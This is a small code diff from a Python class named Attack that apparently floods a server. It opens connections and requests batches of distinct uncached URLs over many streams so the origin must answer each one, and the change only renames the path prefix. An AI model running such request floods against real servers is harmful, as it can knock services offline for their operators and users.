@@ -75,7 +75,7 @@ class Attack:
         """Distinct cold URLs, each given up: every other connection waits until they are asked of the origin."""
         while self.goes_on:
             with self.connect() as raw:
-                run, patient, stream = f"/cold/{os.getpid()}/{self.connections}/", self.connections % 2 == 1, 1
+                run, patient, stream = f"/given-up/{os.getpid()}/{self.connections}/", self.connections % 2 == 1, 1
                 while self.goes_on and stream < 100_000:
                     streams = range(stream, stream + 120, 2)
                     asked = b"".join(get(number, run + str(number)) for number in streams)
